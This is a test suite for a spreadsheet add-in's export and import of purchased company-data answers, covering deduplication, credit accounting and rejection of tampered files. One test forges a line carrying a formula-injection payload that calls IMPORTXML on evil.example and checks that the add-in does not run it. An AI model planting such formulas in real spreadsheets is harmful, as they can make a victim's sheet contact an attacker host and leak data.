// docs/warehouse.md: what was paid for leaves as a file, and is held in another spreadsheet that imports it.
import { describe, expect, it } from "vitest";
import { JOURNAL_BUDGET_CHARACTERS } from "../../src/money/drop-oldest";
import type { RunRequest } from "../../src/rpc/rpc";
import { CUTS } from "../addin/cuts";
import {
  callOf,
  exported,
  exportedFacts,
  fileOf,
  forgedLine,
  imported,
  linesIn,
  whyNotTaken,
} from "../addin/files-of-answers";
import { BASE_URL, DEMO_KEY, EDITOR, openAddin, type OpenAddin, OWNER, websites } from "../addin/open-addin";
import { boxOf } from "../addin/addin-on-host";
import { lookAt } from "../../sidebar/transfer/import-file";
import { ServiceError } from "../../workbench/host/service-error";

const RANGE = "Sheet1!A2:A6";
const SECTIONS: RunRequest = { kind: "enrichment", sections: ["firmographic", "location"], range: RANGE };
const JOBS: RunRequest = { kind: "jobs", limit: 10, range: RANGE };
/** A kill at a call that only reads leaves what the one before it has left. */
const CHANGES = /^(set|insert|add|hide|remove|protect|flush|delete)/;
const JOURNAL = "Company Intelligence journal";

/** A spreadsheet in which something was bought. */
async function bought(...requests: RunRequest[]): Promise<OpenAddin> {
  const addin = await openAddin({ formulas: false });
  for (const request of requests) await addin.run(request);
  return addin;
}

const journalRows = (addin: OpenAddin): string[][] => {
  const sheet = addin.workbook.sheetNamed(JOURNAL);
  return sheet === undefined
    ? []
    : sheet
        .getValues(sheet.dataRange)
        .map((row) => row.map(String))
        .slice(1);
};

describe("The file of all answers", () => {
  it("has a line for each answer that was paid for, sends nothing, and names neither key nor payer", async () => {
    const addin = await bought(SECTIONS, JOBS);
    const sent = addin.sent.length;
    const text = await exported(addin);
    const lines = linesIn(text);
    const payers = new Set(
      journalRows(addin)
        .map((row) => row[4]!)
        .filter((payer) => payer !== ""),
    );

    expect(addin.sent.length).toBe(sent);
    expect(lines.map(({ product }) => product).toSorted()).toEqual([
      ...Array.from({ length: 10 }, () => "enrichment"),
      ...Array.from({ length: 5 }, () => "jobs"),
    ]);
    expect(lines.reduce((sum, { price }) => sum + price, 0)).toBe(addin.credits);
    expect(payers.size).toBe(1);
    expect([DEMO_KEY, ...payers].filter((secret) => text.includes(secret))).toEqual([]);
  });

  it("is whole however the journal is sorted or shortened while it is read, and holds nothing twice", async () => {
    const addin = await bought(SECTIONS, JOBS);
    const sheet = addin.workbook.sheetNamed(JOURNAL)!;
    const whole = new Set(linesIn(await exported(addin)).map(({ id }) => id));
    let calls = 0;
    const call = callOf(addin);
    const meddled = await exported(addin, async (method, args) => {
      const reply = await call(method, args);
      const box = { ...sheet.dataRange, row: 2, rows: sheet.lastRow - 1 };
      // Sorted in between; then a row is copied below, as its user did.
      if (++calls === 1) sheet.sort(box, [{ column: 2, ascending: false }]);
      if (calls === 2) sheet.copyTo({ ...box, rows: 1 }, { ...box, row: sheet.lastRow + 1, rows: 1 });
      return reply;
    });
    const ids = linesIn(meddled).map(({ id }) => id);

    expect(calls).toBeGreaterThan(2);
    expect(new Set(ids)).toEqual(whole);
    expect(ids.length).toBe(whole.size);
  });

  it("holds what the journal does not take at present, once; an import says why it waits, and changes nothing", async () => {
    const addin = await openAddin();
    await addin.value("saveSettings", { apiKey: DEMO_KEY, baseUrl: BASE_URL }, EDITOR);
    await addin.run(SECTIONS);
    const text = await exported(addin);
    const rows = journalRows(addin).length;
    addin.workbook.sheetNamed(JOURNAL)!.protect({ editors: [OWNER] });
    await addin.formula(`=COMPANY_ENRICH("${websites(6)[5]!}","Founded")`);
    const theirs = linesIn(await exported(addin, callOf(addin, EDITOR)));
    const other = forgedLine(linesIn(text)[0]!, { id: "r-other.0.0" });
    const refused = await imported(addin, other, callOf(addin, EDITOR)).catch(
      ({ code }: { code: string }) => code,
    );

    expect(theirs.length).toBe(linesIn(text).length + 1);
    expect(theirs.at(-1)).toMatchObject({ company: websites(6)[5], unit: "firmographic", status: "ok" });
    expect([refused, journalRows(addin).length]).toEqual(["limit/journal", rows]);
    expect(new Set(theirs.map(({ id }) => id)).size).toBe(theirs.length);
  });

  it("is none where the journal is gone, and a sentence says so", async () => {
    const addin = await bought(SECTIONS);
    addin.workbook.deleteSheet(addin.workbook.sheetNamed(JOURNAL)!);

    expect(await addin.refusal("takeAnswers", { first: 1 })).toContain("The journal sheet was deleted");
  });

  it("is a table of facts as well: a row a company, for nothing", async () => {
    const addin = await bought(SECTIONS);
    const sent = addin.sent.length;
    const [header = "", ...rows] = (await exportedFacts(addin)).trimEnd().split("\r\n");

    expect(addin.sent.length).toBe(sent);
    // A refusal is no answer: the newest one stays what it was.
    addin.spoil = (reply) => ({ ...reply, status: 422, body: "{}" });
    await addin.run({ kind: "traffic", range: RANGE });
    expect((await exportedFacts(addin)).trimEnd().split("\r\n")).toEqual([header, ...rows]);
    expect(header.startsWith("\ufeffCompany,Company ID,Newest answer,Name,")).toBe(true);
    expect(rows.map((row) => row.split(",")[0])).toEqual(websites(5).toSorted());
  });
});

describe("Another spreadsheet that imports it", () => {
  it("holds the answers: a run buys nothing, and no sum, limit or person has spent anything", async () => {
    const text = await exported(await bought(SECTIONS, JOBS));
    const addin = await openAddin({ formulas: false });
    const sent = addin.sent.length;
    const count = await imported(addin, text);
    const bill = await addin.value("quoteRun", SECTIONS);
    const run = await addin.run(SECTIONS);
    await addin.run(JOBS);

    expect(count).toBe(15);
    expect(bill.credits).toMatchObject({ high: 0 });
    expect(run.creditsSpent).toBe(0);
    expect(addin.sent.length).toBe(sent);
    expect(addin.under("Name").filter((name) => name === "")).toEqual([]);
    const spent = await addin.value("getCredits", {});
    expect([spent.total.entries, spent.today.credits, spent.unaccounted]).toEqual([0, 0, 0]);
    expect(spent.byPerson).toEqual([]);
    const { acts = [] } = await addin.value("getHistory", {});
    expect(acts.map(({ what, who, answers, name }) => ({ what, who, answers, name }))).toEqual([
      { what: "answers-imported", who: "you", answers: 15, name: "answers.ndjson" },
    ]);
  });

  it("buys nothing of whatever kind it was, also of several pages, and of a list", async () => {
    const news: RunRequest = { kind: "news", limit: 30, range: RANGE };
    const headcount: RunRequest = { kind: "headcount", range: RANGE };
    const countries = ["DEU", "FRA", "GBR", "ESP", "ITA", "NLD", "USA", "CAN", "MEX", "BRA", "AUS", "JPN"];
    const filters = { "location.hq.country": countries };
    const list = { kind: "list", list: { filters, limit: 20 } } as const;
    const first = await bought(news, headcount);
    await first.finishRun(await first.value("startRun", { ...list, creditCap: 1_000 }));
    const text = await exported(first);
    const second = await openAddin({ formulas: false });
    await imported(second, text);
    const runs = [await second.run(news), await second.run(headcount)];
    runs.push(await second.finishRun(await second.value("startRun", { ...list, creditCap: 0 })));
    const rowsOf = (addin: OpenAddin, name: string) => {
      const sheet = addin.workbook.sheetNamed(name)!;
      return addin.rows(sheet).map((row) => row["Headline"] ?? row["Website"]);
    };

    expect(first.credits).toBeGreaterThan(0);
    expect([second.credits, ...runs.map(({ creditsSpent }) => creditsSpent)]).toEqual([0, 0, 0, 0]);
    expect(rowsOf(second, runs[0]!.sheetName)).toEqual(rowsOf(first, runs[0]!.sheetName));
    expect(rowsOf(second, runs[2]!.sheetName)).toEqual(rowsOf(first, runs[2]!.sheetName));
    expect(rowsOf(first, runs[2]!.sheetName).length).toBe(20);
  });

  it("holds nothing twice: imported again, brought back to where it was bought, by two people at once", async () => {
    const first = await bought(SECTIONS);
    const text = await exported(first);
    const second = await openAddin({ formulas: false });
    await second.value("saveSettings", { apiKey: DEMO_KEY, baseUrl: BASE_URL }, EDITOR);
    const both = await Promise.all([imported(second, text), imported(second, text, callOf(second, EDITOR))]);
    const again = await imported(second, text);
    const theirs = await exported(second);

    const twice = await lookAt(fileOf(text + text), callOf(await openAddin()), async () => undefined);

    expect(both.reduce((sum, count) => sum + count, 0)).toBe(10);
    expect(twice).toMatchObject({ answers: 10, lacking: 10 });
    expect(again).toBe(0);
    expect(journalRows(second).length).toBe(10);
    expect(linesIn(theirs).map(({ id, price }) => [id, price])).toEqual(
      linesIn(text).map(({ id, price }) => [id, price]),
    );
    expect(await imported(first, theirs)).toBe(0);
  });

  it("shows it in formulas at once, also where they show an older answer, or that there is none", async () => {
    const lines = linesIn(await exported(await bought(SECTIONS))).filter(
      ({ unit }) => unit === "firmographic",
    );
    const [known, unknown] = lines.map((line, index) => ({ ...line, id: `r-newer.0.${index}` }));
    const addin = await openAddin();
    addin.spoil = (reply, url) =>
      url.includes(unknown!.company) ? { ...reply, status: 204, body: "" } : reply;
    const formula = `=COMPANY_ENRICH({"${known!.company}";"${unknown!.company}"},"Name")`;
    const before = await addin.formula(formula);
    const sent = addin.sent.length;
    await addin.clock.sleep(60_000);
    const date = new Date(addin.clock.now()).toISOString();
    const named = (name: string) => ({ date, answer: { ...(known!.answer as object), name } });
    await imported(addin, forgedLine(known!, named("Newer")) + forgedLine(unknown!, named("Found")));
    const after = await addin.formula(formula);

    const shown = ({ sheet }: typeof before) => sheet.getValues(boxOf("A1:A2")).flat();
    expect(shown(before)).not.toContain("Found");
    expect(shown(after)).toEqual(["Newer", "Found"]);
    expect(addin.sent.length).toBe(sent);
  });

  it("brings back what somebody has damaged, whichever cell it was, and buys none of it", async () => {
    const addin = await bought(SECTIONS);
    const text = await exported(addin);
    const sheet = addin.workbook.sheetNamed(JOURNAL)!;
    for (const a1 of ["K2", "O3"]) sheet.setValues(boxOf(a1), [["oops"]]);
    const spent = addin.credits;
    const count = await imported(addin, text);
    const again = await imported(addin, text);
    await addin.run(SECTIONS);

    expect([count, again]).toEqual([2, 0]);
    expect(addin.credits).toBe(spent);
  });

  it("brings back what was dropped to make room, and buys none of it", async () => {
    const addin = await bought(SECTIONS);
    const text = await exported(addin);
    await addin.value("cleanJournal", { keepCharacters: 0 });
    const spent = addin.credits;
    const count = await imported(addin, text);
    const again = await imported(addin, text);
    await addin.run(SECTIONS);

    expect([count, again]).toEqual([10, 0]);
    expect(addin.credits).toBe(spent);
    expect((await addin.value("getCredits", {})).total.credits).toBe(spent);
  });
});

describe.each(CUTS)("An import that is %s anywhere", (how) => {
  it("ends the same once it is imported again: nothing is lost, nothing doubled", async () => {
    const text = await exported(await bought(SECTIONS));
    const ids = linesIn(text)
      .map(({ id }) => `i0:${id}`)
      .toSorted();
    const wrong: string[] = [];
    let cuts = 0;
    for (let n = 1; ; n++) {
      const addin = await openAddin({ formulas: false });
      let [seen, at] = [0, ""];
      addin.host.intercept = ({ service, method, phase }) => {
        if (phase !== "before" || !CHANGES.test(method) || ++seen !== n) return undefined;
        at = `${service}.${method}`;
        if (how === "killed") return "kill";
        throw new ServiceError("Service error: Spreadsheets");
      };
      await imported(addin, text).catch(() => undefined);
      addin.host.intercept = undefined;
      if (at === "") break;
      cuts += 1;
      await addin.clock.sleep(120_000);
      await imported(addin, text);
      const held = journalRows(addin)
        .map((row) => row[1]!)
        .toSorted();
      if (held.join() !== ids.join()) wrong.push(`${n}, ${at}: ${held.length} of ${ids.length}`);
    }

    expect(wrong).toEqual([]);
    expect(cuts).toBeGreaterThan(8);
  });
});

describe("A file that is not as it was exported", () => {
  it("is refused in a sentence, and changes nothing", async () => {
    const text = await exported(await bought(SECTIONS));
    const addin = await openAddin({ formulas: false });
    const [line] = linesIn(text);
    const cut = text.slice(0, -200);
    const edited = text.replace(`"price":${line!.price}`, `"price":${line!.price + 1}`);
    const files = {
      half: cut,
      foreign: '{"name":"Acme"}\n',
      "no JSON": "Company,Name\r\nacme.example,Acme\r\n",
      edited,
      version: forgedLine(line!, { format: 2 }),
      "another host": forgedLine(line!, { host: "other.example" }),
      empty: "",
      "too large": forgedLine(line!, { size: JOURNAL_BUDGET_CHARACTERS + 1 }),
    };
    const told: Record<string, string> = {};
    for (const [name, file] of Object.entries(files)) told[name] = await whyNotTaken(addin, file);

    expect(told).toEqual({
      half: "Line 10 is cut off. Export the file again.",
      foreign: "Line 1 is not from an export of this add-on. Choose a file that is.",
      "no JSON": "Line 1 is not from an export of this add-on. Choose a file that is.",
      edited: "Line 1 was changed after its export. Export the file again.",
      version:
        "Line 1 comes from another version of the add-on. Export it again with the version that you have here.",
      "another host":
        "These answers come from other.example, but you use demo.company-intelligence.example. Save that address in Settings, then try again.",
      empty: "“answers.ndjson” holds no answers. Choose a file that was exported here.",
      "too large": "1 answer does not fit in here. Make room in Credits, or import into a new spreadsheet.",
    });
    expect(journalRows(addin)).toEqual([]);
    expect((await addin.value("getHistory", {})).acts ?? []).toEqual([]);
  });

  it("is refused as well by whoever skips the look: a slice with a bad line changes nothing", async () => {
    const text = await exported(await bought(SECTIONS));
    const addin = await openAddin({ formulas: false });
    const [line] = linesIn(text);
    const bad = {
      "cut off": text.slice(0, -200).split("\n").at(-1)!,
      edited: JSON.stringify({ ...line!, status: "missing" }),
      "to come": forgedLine(line!, { date: "2999-01-01T00:00:00.000Z" }),
      "another question": forgedLine(line!, { company: "other.example" }),
      "an act": forgedLine(line!, { product: "chosen" }),
      "an id of an import": forgedLine(line!, { id: "i0:r1.0.0" }),
      "an unknown parameter": forgedLine(line!, { params: { country: "DEU" } }),
      "a longer answer than a row takes": forgedLine(line!, {
        answer: Array.from({ length: 80_000 }, (_, index) => ({ [`${index * 7919}`]: Math.sin(index) })),
      }),
    };
    const taken: string[] = [];
    for (const [name, last] of Object.entries(bad)) {
      const lines = [...text.trimEnd().split("\n").slice(1), last.trim()];
      if ((await addin.refusal("importAnswers", { lines, file: "x", first: 1 })) === "") taken.push(name);
    }

    expect(taken).toEqual([]);
    expect(journalRows(addin)).toEqual([]);
  });

  it("runs no formula and passes for no order of a colleague's look, whoever has forged it", async () => {
    const text = await exported(await bought(SECTIONS));
    const [line] = linesIn(text).filter(({ unit }) => unit === "firmographic");
    const formula = '=IMPORTXML("https://evil.example","//a")';
    const addin = await openAddin({ formulas: false });
    const name = (answer: unknown) =>
      JSON.parse(JSON.stringify(answer).replace(/"name":"[^"]*"/, `"name":${JSON.stringify(formula)}`));
    await imported(
      addin,
      forgedLine(line!, { answer: name(line!.answer), uuid: formula, imported: formula }),
    );
    await addin.run({ ...SECTIONS, sections: ["firmographic"] });

    const formulas = addin.workbook.sheets.flatMap((sheet) => sheet.getFormulas(sheet.dataRange).flat());
    expect(formulas.filter((each) => each !== "")).toEqual([]);
    expect(journalRows(addin)[0]![1]).toMatch(/^i0:/);
  });
});
